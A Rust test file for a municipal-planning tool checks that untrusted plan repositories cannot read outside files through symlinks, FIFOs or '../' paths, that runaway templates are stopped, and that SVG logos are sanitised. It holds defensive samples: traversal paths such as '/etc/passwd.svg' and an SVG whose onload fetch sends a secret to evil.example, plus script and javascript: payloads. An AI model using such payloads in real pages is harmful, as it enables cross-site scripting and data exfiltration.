//! A plan repository is untrusted input: loading a plan and its templates never leaves the plan
//! root or the templates folder, never opens a FIFO or a device, and a user template's work is
//! bounded. Each case ends with a finding or a clear error that names the link, never its
//! target's content.

#![cfg(unix)]

use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::Duration;

use assert_cmd::Command;

mod common;

/// Text that must never appear in any output: it lives only outside the plan or templates folder.
const SECRET: &str = "TOPSECRET-4f1c";

fn kplan() -> Command {
    let mut cmd = Command::cargo_bin("kplan").unwrap();
    cmd.env_remove("KPLAN_TODAY")
        .env_remove("GITHUB_ACTIONS")
        .timeout(Duration::from_secs(120));
    cmd
}

/// A folder outside every plan, holding a plan file, a text and a manifest that carry [`SECRET`].
fn outside() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("secret.yaml"),
        format!("goals:\n  - id: G9\n    title: {SECRET}\n"),
    )
    .unwrap();
    std::fs::write(dir.path().join("secret.txt"), SECRET).unwrap();
    let manifest = std::fs::read_to_string(common::root().join("tests/rules/_base/kplan.toml"))
        .unwrap()
        .replace("language = \"nb\"", "language = \"nn\"")
        .replace("Testvik kommune", SECRET);
    // In a folder of its own: a folder with a manifest would be a plan of its own, which a
    // plan never reads anyway.
    std::fs::create_dir(dir.path().join("other")).unwrap();
    std::fs::write(dir.path().join("other/kplan.toml"), manifest).unwrap();
    dir
}

/// Runs `kplan check --format json` and returns (exit status, stdout, stderr).
fn check(dir: &Path) -> (i32, String, String) {
    let out = kplan()
        .args(["check", "--format", "json", "--today", "2026-11-27"])
        .arg(dir)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!stderr.contains("panicked"), "kplan panicked: {stderr}");
    assert!(
        !stdout.contains(SECRET) && !stderr.contains(SECRET),
        "content from outside the plan was printed:\n{stdout}\n{stderr}"
    );
    let status = out.status.code().expect("kplan was killed (timeout?)");
    (status, stdout, stderr)
}

/// The diagnostics of a `check` that exits 1.
fn findings(dir: &Path) -> Vec<serde_json::Value> {
    let (status, stdout, stderr) = check(dir);
    assert_eq!(status, 1, "stdout: {stdout}\nstderr: {stderr}");
    let doc: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    doc["diagnostics"].as_array().unwrap().clone()
}

/// The one `parse` finding in `file`; panics if there is none.
fn parse_finding<'a>(findings: &'a [serde_json::Value], file: &str) -> &'a serde_json::Value {
    findings
        .iter()
        .find(|d| d["code"] == "parse" && d["file"] == file)
        .unwrap_or_else(|| panic!("no parse finding in {file}: {findings:#?}"))
}

#[test]
fn a_plan_file_linked_out_of_the_root_is_not_read() {
    let plan = common::base_plan();
    let out = outside();
    symlink(
        out.path().join("secret.yaml"),
        plan.path().join("extra.yaml"),
    )
    .unwrap();
    let findings = findings(plan.path());
    let d = parse_finding(&findings, "extra.yaml");
    assert!(
        d["message"].as_str().unwrap().contains("ut av planmappen"),
        "{d:#}"
    );
}

#[test]
fn a_plan_folder_linked_out_of_the_root_is_not_walked() {
    let plan = common::base_plan();
    let out = outside();
    symlink(out.path(), plan.path().join("shared")).unwrap();
    let findings = findings(plan.path());
    parse_finding(&findings, "shared");
    assert!(
        findings
            .iter()
            .all(|d| !d["file"].as_str().unwrap_or("").starts_with("shared/")),
        "nothing below the link is read: {findings:#?}"
    );
}

#[test]
fn a_manifest_linked_out_of_the_root_is_not_read() {
    let plan = common::base_plan();
    let out = outside();
    std::fs::remove_file(plan.path().join("kplan.toml")).unwrap();
    symlink(
        out.path().join("other/kplan.toml"),
        plan.path().join("kplan.toml"),
    )
    .unwrap();
    let findings = findings(plan.path());
    parse_finding(&findings, "kplan.toml");
}

#[test]
fn explain_does_not_take_the_language_of_a_manifest_linked_out_of_the_root() {
    let plan = common::base_plan();
    let out = outside();
    std::fs::remove_file(plan.path().join("kplan.toml")).unwrap();
    symlink(
        out.path().join("other/kplan.toml"),
        plan.path().join("kplan.toml"),
    )
    .unwrap();
    let output = kplan()
        .args(["explain", "parse"])
        .current_dir(plan.path())
        .output()
        .unwrap();
    assert!(output.status.success());
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(
        text.starts_with("# `parse` (error)"),
        "the nynorsk of the outside manifest was used: {text}"
    );
}

#[test]
fn links_inside_the_root_are_read() {
    // Not a defect: the guard that the fixes above do not refuse links that stay in the plan.
    let plan = common::base_plan();
    std::fs::create_dir(plan.path().join("real")).unwrap();
    std::fs::write(
        plan.path().join("real/b.yaml"),
        "goals:\n  - id: G9\n    title: Lenket mål\n",
    )
    .unwrap();
    symlink("real/b.yaml", plan.path().join("a.yaml")).unwrap();
    symlink("real", plan.path().join("alias")).unwrap();
    let findings = findings(plan.path());
    assert!(
        findings.iter().all(|d| d["code"] != "parse"),
        "{findings:#?}"
    );
    // G9 is read through the file link and as itself; the folder link is not walked, since its
    // folder is read where it is.
    let files: Vec<&str> = findings
        .iter()
        .filter(|d| d["message"].as_str().unwrap().contains("G9"))
        .map(|d| d["file"].as_str().unwrap())
        .collect();
    for file in ["a.yaml", "real/b.yaml"] {
        assert!(files.contains(&file), "{file} was not read: {findings:#?}");
    }
    assert!(!files.contains(&"alias/b.yaml"), "{findings:#?}");
}

#[test]
fn a_dangling_link_is_a_finding() {
    let plan = common::base_plan();
    symlink("missing.yaml", plan.path().join("a.yaml")).unwrap();
    let findings = findings(plan.path());
    let d = parse_finding(&findings, "a.yaml");
    assert!(d["message"].as_str().unwrap().contains("lenke"), "{d:#}");
}

/// Makes a FIFO with the `mkfifo` binary (no extra crate for one system call in a test).
fn mkfifo(path: &Path) {
    let status = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success(), "mkfifo failed");
}

#[test]
fn a_fifo_is_skipped_with_a_finding_never_opened() {
    let plan = common::base_plan();
    mkfifo(&plan.path().join("pipe.yaml"));
    mkfifo(&plan.path().join("pipe"));
    symlink("pipe", plan.path().join("linked.yaml")).unwrap();
    let findings = findings(plan.path());
    for file in ["pipe.yaml", "linked.yaml"] {
        let d = parse_finding(&findings, file);
        assert!(
            d["message"]
                .as_str()
                .unwrap()
                .contains("ikke en vanlig fil"),
            "{d:#}"
        );
    }
}

#[test]
fn a_fifo_manifest_is_never_opened() {
    // `load` is reached with the root of a plan whose kplan.toml was replaced by a FIFO after
    // the root was found; reading it must not block.
    let plan = common::base_plan();
    std::fs::remove_file(plan.path().join("kplan.toml")).unwrap();
    mkfifo(&plan.path().join("kplan.toml"));
    let root = plan.path().to_path_buf();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let loaded = kplan::load::load(&root).map(|l| {
            l.findings
                .iter()
                .map(|f| f.code.name().to_owned())
                .collect::<Vec<_>>()
        });
        let language = kplan::load::manifest_language(&root);
        let _ = tx.send((loaded.ok(), language));
    });
    let (codes, language) = rx
        .recv_timeout(Duration::from_secs(60))
        .expect("reading a FIFO manifest blocked");
    assert_eq!(codes.unwrap(), ["parse"]);
    assert_eq!(language, None);
}

/// Renders the base plan's Markdown with the templates in `templates` into a fresh folder;
/// returns (exit status, stderr, whether anything was written).
fn render(templates: &Path) -> (i32, String, bool) {
    let plan = common::base_plan();
    let out = tempfile::tempdir().unwrap();
    let output = kplan()
        .args([
            "render",
            "--today",
            "2026-11-27",
            "-q",
            "--format",
            "md",
            "-o",
        ])
        .arg(out.path().join("build"))
        .arg("--templates")
        .arg(templates)
        .arg(plan.path())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(!stderr.contains("panicked"), "kplan panicked: {stderr}");
    assert!(
        !stdout.contains(SECRET) && !stderr.contains(SECRET),
        "content from outside the templates folder was printed:\n{stdout}\n{stderr}"
    );
    let written = std::fs::read_dir(out.path().join("build"))
        .map(|entries| entries.count() > 0)
        .unwrap_or(false);
    if let Ok(md) = std::fs::read_to_string(out.path().join("build/plan.md")) {
        assert!(
            !md.contains(SECRET),
            "the document published outside content"
        );
    }
    let status = output.status.code().expect("kplan was killed (timeout?)");
    (status, stderr, written)
}

/// A templates folder whose `plan.md.j2` is `source`.
fn templates(source: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("plan.md.j2"), source).unwrap();
    dir
}

#[test]
fn a_link_in_the_templates_folder_does_not_lead_out_of_it() {
    let out = outside();
    let dir = templates("{% include \"root/secret.txt\" %}");
    symlink(out.path(), dir.path().join("root")).unwrap();
    let (status, stderr, written) = render(dir.path());
    assert_eq!(status, 2, "{stderr}");
    assert!(stderr.contains("root/secret.txt"), "{stderr}");
    assert!(stderr.contains("out of the templates folder"), "{stderr}");
    assert!(!written);
}

#[test]
fn a_template_file_linked_out_of_the_folder_is_refused() {
    let out = outside();
    let dir = tempfile::tempdir().unwrap();
    symlink(out.path().join("secret.txt"), dir.path().join("plan.md.j2")).unwrap();
    let (status, stderr, written) = render(dir.path());
    assert_eq!(status, 2, "{stderr}");
    assert!(stderr.contains("plan.md.j2"), "{stderr}");
    assert!(stderr.contains("out of the templates folder"), "{stderr}");
    assert!(!written);
}

#[test]
fn template_names_with_dot_dot_or_a_root_are_refused_by_name() {
    let parent = tempfile::tempdir().unwrap();
    std::fs::write(parent.path().join("x.j2"), SECRET).unwrap();
    let dir = parent.path().join("templates");
    std::fs::create_dir(&dir).unwrap();
    let absolute = parent.path().join("x.j2");
    for name in ["../x.j2", absolute.to_str().unwrap()] {
        std::fs::write(
            dir.join("plan.md.j2"),
            format!("{{% include \"{name}\" %}}"),
        )
        .unwrap();
        let (status, stderr, written) = render(&dir);
        assert_eq!(status, 2, "{stderr}");
        assert!(stderr.contains(name), "{stderr}");
        assert!(stderr.contains("out of the templates folder"), "{stderr}");
        assert!(!written);
    }
}

#[test]
fn a_template_that_never_ends_runs_out_of_its_budget() {
    let dir = templates(
        "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}\
         {% endfor %}{% endfor %}{% endfor %}",
    );
    let (status, stderr, written) = render(dir.path());
    assert_eq!(status, 2, "{stderr}");
    assert!(stderr.contains("ran out of its budget of"), "{stderr}");
    assert!(!written);
}

#[test]
fn a_template_that_writes_without_end_runs_out_of_its_budget() {
    let dir = templates(
        "{% for a in range(100000) %}{% for b in range(100000) %}{{ \"x\" * 100000 }}\
         {% endfor %}{% endfor %}",
    );
    let (status, stderr, written) = render(dir.path());
    assert_eq!(status, 2, "{stderr}");
    assert!(stderr.contains("ran out of its budget of"), "{stderr}");
    assert!(!written);
}

#[test]
fn a_template_that_includes_itself_stops_at_the_nesting_limit() {
    let dir = templates("x{% include \"plan.md.j2\" %}");
    let (status, stderr, written) = render(dir.path());
    assert_eq!(status, 2, "{stderr}");
    assert!(stderr.contains("nest deeper than the limit of"), "{stderr}");
    assert!(!written);
}

#[test]
fn a_macro_that_calls_itself_stops_at_the_nesting_limit() {
    let dir = templates("{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}");
    let (status, stderr, written) = render(dir.path());
    assert_eq!(status, 2, "{stderr}");
    assert!(stderr.contains("nest deeper than the limit of"), "{stderr}");
    assert!(!written);
}

#[test]
fn a_link_in_a_git_revision_is_not_read_as_a_plan_file() {
    // Not a defect: the guard that `git ls-tree` entries of mode 120000 stay unread. A link's blob
    // is its target path as text, here a valid plan file that would add goal G7.
    let plan = common::base_plan();
    common::git(plan.path(), &["init", "-q"]);
    symlink(
        "goals: [{id: G7, title: Lenke}]",
        plan.path().join("a.yaml"),
    )
    .unwrap();
    common::git(plan.path(), &["add", "-A"]);
    common::git(plan.path(), &["commit", "-q", "-m", "plan"]);
    std::fs::remove_file(plan.path().join("a.yaml")).unwrap();
    let output = kplan()
        .args(["diff", "HEAD", ".", "--format", "json"])
        .current_dir(plan.path())
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stdout}\n{stderr}");
    assert!(
        !stdout.contains("G7"),
        "the link was read as a plan file: {stdout}"
    );
}

#[test]
fn a_maze_of_folder_links_inside_the_root_is_not_walked() {
    // Two links per level to the next level: 2^24 paths to one file, if folder links were walked.
    let dir = common::base_plan();
    let maze = dir.path().join("maze");
    const LEVELS: usize = 24;
    for i in 0..=LEVELS {
        std::fs::create_dir_all(maze.join(format!("d{i}"))).unwrap();
    }
    for i in 0..LEVELS {
        for name in ["a", "b"] {
            symlink(
                format!("../d{}", i + 1),
                maze.join(format!("d{i}")).join(name),
            )
            .unwrap();
        }
    }
    std::fs::write(maze.join(format!("d{LEVELS}/x.yaml")), "# nothing\n").unwrap();
    let (status, stdout, stderr) = check(dir.path());
    assert_eq!(status, 1, "{stdout}\n{stderr}");
    let doc: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    // The empty file is reported once, where it is.
    let empty: Vec<&serde_json::Value> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["file"].as_str().is_some_and(|f| f.ends_with("x.yaml")))
        .collect();
    assert_eq!(empty.len(), 1, "{empty:#?}");
}

// ---------------------------------------------------------------- the logo and the appendices

/// The `attachment` findings of `kplan check` on the base plan with `manifest` appended to its
/// `kplan.toml` (and whatever the caller put in the folder).
fn attachment_findings(plan: &Path, manifest: &str) -> Vec<serde_json::Value> {
    common::append(&plan.join("kplan.toml"), manifest);
    let (attachments, others): (Vec<_>, Vec<_>) = findings(plan)
        .into_iter()
        .partition(|d| d["code"] == "attachment");
    // A folder link out of the plan is also reported as such, where the plan files are walked.
    assert!(others.iter().all(|d| d["code"] == "parse"), "{others:#?}");
    attachments
}

fn message(finding: &serde_json::Value) -> &str {
    finding["message"].as_str().unwrap()
}

#[test]
fn a_logo_or_appendix_linked_out_of_the_root_is_not_read() {
    let plan = common::base_plan();
    let out = outside();
    std::fs::write(
        out.path().join("secret.svg"),
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><title>{SECRET}</title></svg>"),
    )
    .unwrap();
    std::fs::write(out.path().join("secret.md"), format!("# {SECRET}\n")).unwrap();
    std::fs::create_dir(plan.path().join("vedlegg")).unwrap();
    symlink(out.path().join("secret.svg"), plan.path().join("våpen.svg")).unwrap();
    symlink(
        out.path().join("secret.md"),
        plan.path().join("vedlegg/mandat.md"),
    )
    .unwrap();
    // A folder link on the way out is refused too.
    symlink(out.path(), plan.path().join("felles")).unwrap();
    let found = attachment_findings(
        plan.path(),
        "\n[render]\nlogo = \"våpen.svg\"\n\n[[appendices]]\nfile = \"vedlegg/mandat.md\"\n\n[[appendices]]\nfile = \"felles/secret.md\"\n",
    );
    assert_eq!(found.len(), 3, "{found:#?}");
    for d in &found {
        assert!(
            message(d).contains("lenke som leder ut av planmappen"),
            "{d:#}"
        );
    }
}

#[test]
fn a_logo_or_appendix_path_out_of_the_root_is_refused_by_its_form() {
    let plan = common::base_plan();
    let found = attachment_findings(
        plan.path(),
        "\n[render]\nlogo = \"/etc/passwd.svg\"\n\n[[appendices]]\nfile = \"../secret.md\"\n",
    );
    assert_eq!(found.len(), 2, "{found:#?}");
    for d in &found {
        assert!(message(d).contains("leder ut av planmappen"), "{d:#}");
    }
}

#[test]
fn an_oversized_logo_or_appendix_is_refused() {
    let plan = common::base_plan();
    let mut svg = String::from("<svg xmlns=\"http://www.w3.org/2000/svg\">");
    svg.push_str(&"<!-- padding -->".repeat(70_000));
    svg.push_str("</svg>");
    assert!(svg.len() > 1024 * 1024);
    std::fs::write(plan.path().join("våpen.svg"), &svg).unwrap();
    std::fs::write(plan.path().join("stor.md"), "# Stor\n".repeat(400_000)).unwrap();
    let found = attachment_findings(
        plan.path(),
        "\n[render]\nlogo = \"våpen.svg\"\n\n[[appendices]]\nfile = \"stor.md\"\n",
    );
    let messages: Vec<&str> = found.iter().map(message).collect();
    assert_eq!(messages.len(), 2, "{messages:#?}");
    assert!(
        messages[0].contains("mer enn de 1024 KiB en logo"),
        "{messages:?}"
    );
    assert!(
        messages[1].contains("mer enn de 2048 KiB et vedlegg"),
        "{messages:?}"
    );
}

#[test]
fn a_fifo_as_logo_is_refused_without_blocking() {
    let plan = common::base_plan();
    mkfifo(&plan.path().join("våpen.svg"));
    let found = attachment_findings(plan.path(), "\n[render]\nlogo = \"våpen.svg\"\n");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(
        message(&found[0]).contains("ikke en vanlig fil"),
        "{found:#?}"
    );
}

/// Decodes standard base64 (the logo's `data:` URI).
fn base64_decode(text: &str) -> Vec<u8> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let values: Vec<u32> = text
        .bytes()
        .filter(|&b| b != b'=')
        .map(|b| ALPHABET.iter().position(|&a| a == b).unwrap() as u32)
        .collect();
    let mut out = Vec::new();
    for chunk in values.chunks(4) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0, |n, (i, v)| n | (v << (18 - 6 * i)));
        out.extend_from_slice(&n.to_be_bytes()[1..chunk.len()]);
    }
    out
}

#[test]
fn an_svg_logo_with_script_is_reported_and_never_published() {
    let plan = common::base_plan();
    std::fs::write(
        plan.path().join("våpen.svg"),
        format!(
            r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="fetch('https://evil.example/{SECRET}')">
  <script>document.title = "{SECRET}"</script>
  <foreignObject><p xmlns="http://www.w3.org/1999/xhtml">{SECRET}</p></foreignObject>
  <a xlink:href="javascript:alert(1)"><path d="M0 0h10v10z" fill="#1f4e79"/></a>
  <image href="https://evil.example/tracker.png"/>
</svg>"##
        ),
    )
    .unwrap();
    let found = attachment_findings(plan.path(), "\n[render]\nlogo = \"våpen.svg\"\n");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(
        message(&found[0]).contains("<foreignObject>, <image>, <script>, onload, xlink:href"),
        "{found:#?}"
    );
    // With the finding lowered, the document shows the logo as cleaned: the drawing, and none of
    // the rest.
    common::append(
        &plan.path().join("kplan.toml"),
        "\n[checks]\nattachment = \"warning\"\n",
    );
    let out = tempfile::tempdir().unwrap();
    kplan()
        .args(["render", "--today", "2026-11-27", "-q", "-o"])
        .arg(out.path())
        .arg(plan.path())
        .assert()
        .success();
    let html = std::fs::read_to_string(out.path().join("plan.html")).unwrap();
    let start = html
        .find("src=\"data:image&#x2f;svg+xml;base64,")
        .expect("the logo is shown")
        + "src=\"data:image&#x2f;svg+xml;base64,".len();
    let end = start + html[start..].find('"').unwrap();
    let svg = String::from_utf8(base64_decode(&html[start..end].replace("&#x2f;", "/"))).unwrap();
    assert!(
        svg.contains("<path d=\"M0 0h10v10z\" fill=\"#1f4e79\">"),
        "{svg}"
    );
    for gone in [
        SECRET,
        "script",
        "onload",
        "javascript",
        "evil.example",
        "foreignObject",
    ] {
        assert!(!svg.contains(gone), "{gone} in {svg}");
    }
    // The document lists the lowered finding, which names what was left out, as text.
    for gone in [SECRET, "<script", "javascript", "evil.example"] {
        assert!(!html.contains(gone), "{gone} in the document");
    }
}
